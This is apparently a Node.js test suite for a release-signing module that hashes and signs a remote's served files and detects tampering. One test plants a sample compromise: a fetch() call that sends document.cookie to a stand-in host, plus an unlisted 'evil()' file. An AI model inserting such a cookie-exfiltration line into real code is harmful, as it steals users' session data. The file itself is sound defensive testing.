import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createPublicKey, generateKeyPairSync, verify, webcrypto } from 'node:crypto';
import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { checkSignedDist, keyIdOf, publicKeyText, servedFiles, sha384Of, signatureHolds, signDist, signedDocumentOf, signedFileHashes, signedFilesOf, SIGNED_FILES_NAME } from './release-signing.mjs';

function dist() {
  const dir = mkdtempSync(path.join(tmpdir(), 'release-signing-'));
  const write = (rel, content) => {
    mkdirSync(path.dirname(path.join(dir, rel)), { recursive: true });
    writeFileSync(path.join(dir, rel), content);
  };
  write('mf-manifest.json', '{"name":"remote_acme"}');
  write('remoteEntry.js', 'window.remote_acme = {};');
  write('static/js/async/pages-login.0123abcd.js', 'console.log("login");');
  write('static/css/async/pages-login.0123abcd.css', '.a{color:red}');
  write('remoteEntry.js.br', 'compressed');
  write('remoteEntry.js.gz', 'compressed');
  return { dir, write };
}

const ed25519 = () => generateKeyPairSync('ed25519').privateKey;
const p256 = () => generateKeyPairSync('ec', { namedCurve: 'P-256' }).privateKey;

test('lists every served file with its SHA-384, but not the compressed copies nor the list itself', () => {
  const { dir } = dist();
  signDist(dir, ed25519());
  assert.deepEqual(servedFiles(dir), ['mf-manifest.json', 'remoteEntry.js', 'static/css/async/pages-login.0123abcd.css', 'static/js/async/pages-login.0123abcd.js']);
  const document = JSON.parse(readFileSync(path.join(dir, SIGNED_FILES_NAME), 'utf8'));
  const { format, files } = JSON.parse(document.signed);
  assert.equal(format, 'member-signed-files/1');
  assert.deepEqual(Object.keys(files), servedFiles(dir));
  assert.equal(files['remoteEntry.js'], sha384Of(Buffer.from('window.remote_acme = {};')));
  assert.match(files['remoteEntry.js'], /^sha384-[A-Za-z0-9+/]{64}$/);
});

for (const [name, make, algorithm] of [['Ed25519', ed25519, 'Ed25519'], ['ECDSA P-256', p256, 'ECDSA-P256']]) {
  test(`${name}: the signature holds for its own key and for no other`, () => {
    const { dir } = dist();
    const key = make();
    signDist(dir, key);
    const document = JSON.parse(readFileSync(path.join(dir, SIGNED_FILES_NAME), 'utf8'));
    assert.equal(document.algorithm, algorithm);
    assert.equal(document.key, keyIdOf(publicKeyText(key)));
    assert.deepEqual(checkSignedDist(dir, [publicKeyText(key)]), []);
    assert.deepEqual(checkSignedDist(dir, [publicKeyText(make())]), ['the signature is not by any of the keys given']);
    // Rotation: any key of the list will do.
    assert.deepEqual(checkSignedDist(dir, [publicKeyText(make()), publicKeyText(key)]), []);
  });

  test(`${name}: WebCrypto verifies what node:crypto signed (the host's side)`, async () => {
    const { dir } = dist();
    const key = make();
    const document = signedFilesOf(dir, key);
    const spki = Buffer.from(publicKeyText(key), 'base64');
    const params = algorithm === 'Ed25519' ? { name: 'Ed25519' } : { name: 'ECDSA', namedCurve: 'P-256' };
    const publicKey = await webcrypto.subtle.importKey('spki', spki, params, false, ['verify']);
    const verifyParams = algorithm === 'Ed25519' ? { name: 'Ed25519' } : { name: 'ECDSA', hash: 'SHA-256' };
    const ok = await webcrypto.subtle.verify(verifyParams, publicKey, Buffer.from(document.signature, 'base64'), new TextEncoder().encode(document.signed));
    assert.equal(ok, true);
  });
}

test('a changed, missing or unlisted file is named', () => {
  const { dir, write } = dist();
  const key = ed25519();
  signDist(dir, key);
  write('remoteEntry.js', 'window.remote_acme = {}; fetch("https://elsewhere.example/?" + document.cookie);');
  write('static/js/extra.js', 'evil()');
  assert.deepEqual(checkSignedDist(dir, [publicKeyText(key)]), ['remoteEntry.js differs from the signed list', 'static/js/extra.js is served but not listed']);
});

test('the signed text is what was signed: editing the list breaks the signature', () => {
  const { dir } = dist();
  const key = ed25519();
  signDist(dir, key);
  const file = path.join(dir, SIGNED_FILES_NAME);
  const document = JSON.parse(readFileSync(file, 'utf8'));
  document.signed = document.signed.replace(/"remoteEntry\.js":"sha384-[^"]+"/, `"remoteEntry.js":"${sha384Of(Buffer.from('other'))}"`);
  writeFileSync(file, JSON.stringify(document));
  assert.ok(!verify(null, Buffer.from(document.signed), createPublicKey(key), Buffer.from(document.signature, 'base64')));
  assert.ok(checkSignedDist(dir, [publicKeyText(key)]).includes('the signature is not by any of the keys given'));
});

test('refuses a key of another kind', () => {
  const { dir } = dist();
  const rsa = generateKeyPairSync('rsa', { modulusLength: 1024 }).privateKey;
  assert.throws(() => signDist(dir, rsa), /Ed25519 or ECDSA P-256, not rsa/);
  const p384 = generateKeyPairSync('ec', { namedCurve: 'P-384' }).privateKey;
  assert.throws(() => publicKeyText(p384), /not ec secp384r1/);
});

test('a public key reads as the base64 of its SPKI, which names its algorithm', () => {
  assert.match(publicKeyText(ed25519()), /^MCowBQYDK2VwAyEA[A-Za-z0-9+/]{43}=$/);
  assert.match(publicKeyText(p256()), /^MFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAE/);
});

test("files held in memory (a theme's dev server) sign to the same document as a folder holding them", () => {
  const { dir } = dist();
  const key = ed25519();
  const entries = servedFiles(dir).reverse().map((file) => [file, readFileSync(path.join(dir, file))]);
  // What a folder's list leaves out, the in-memory list leaves out too: compressed copies and the list itself.
  entries.push(['remoteEntry.js.br', 'compressed'], [SIGNED_FILES_NAME, '{}'], ['static/js/x.js.gz', 'compressed']);
  assert.deepEqual(signedDocumentOf(entries, key), signedFilesOf(dir, key));
  // A string's bytes are its UTF-8.
  const [first] = entries;
  assert.equal(JSON.parse(signedDocumentOf([[first[0], first[1].toString('utf8')]], key).signed).files[first[0]], sha384Of(first[1]));
});

test('a signature holds for a signed list by one of the keys, and for nothing else that could be answered in its place', () => {
  const { dir } = dist();
  const key = ed25519();
  const document = signedFilesOf(dir, key);
  assert.equal(signatureHolds(document, [publicKeyText(p256()), publicKeyText(key)]), true);
  assert.equal(signatureHolds(document, [publicKeyText(ed25519())]), false);
  assert.equal(signatureHolds({ ...document, signed: document.signed.replace('remoteEntry', 'remoteEntrx') }, [publicKeyText(key)]), false);
  for (const other of [null, '<!doctype html>', {}]) assert.equal(signatureHolds(other, [publicKeyText(key)]), false);
});

test("a reader of a release goes by the list's files once its signature holds, and by nothing otherwise", () => {
  const { dir } = dist();
  const key = ed25519();
  signDist(dir, key);
  const document = JSON.parse(readFileSync(path.join(dir, SIGNED_FILES_NAME), 'utf8'));
  const hashes = signedFileHashes(document, [publicKeyText(key)]);
  assert.equal(hashes.get('remoteEntry.js'), sha384Of(Buffer.from('window.remote_acme = {};')));
  assert.deepEqual([...hashes.keys()], servedFiles(dir));
  assert.throws(() => signedFileHashes(document, [publicKeyText(ed25519())]), /not by any of the keys/);
  assert.throws(() => signedFileHashes({ ...document, signed: document.signed.replace('remoteEntry.js', 'remoteEntry.jx') }, [publicKeyText(key)]), /not by any of the keys/);
});
